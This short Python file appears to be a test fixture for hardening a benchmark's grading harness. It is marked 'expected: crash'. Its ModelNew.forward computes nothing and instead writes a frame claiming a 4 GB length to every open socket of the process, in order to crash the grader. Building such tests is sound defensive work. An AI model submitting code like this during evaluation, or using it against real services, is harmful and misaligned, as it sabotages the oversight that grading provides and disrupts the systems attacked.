# problem: level1/1
# expected: crash
"""Mechanism: a frame that claims 4 GB. Surface: memory set aside for what never comes."""
import os
import socket
import stat

from torch import nn


def sockets():
    for name in os.listdir("/proc/self/fd"):
        try:
            if stat.S_ISSOCK(os.stat(int(name)).st_mode):
                yield int(name)
        except OSError:
            pass


class ModelNew(nn.Module):
    def forward(self, x):
        for descriptor in sockets():
            os.write(descriptor, b"\xff\xff\xff\xff" + b"{}")
        return x
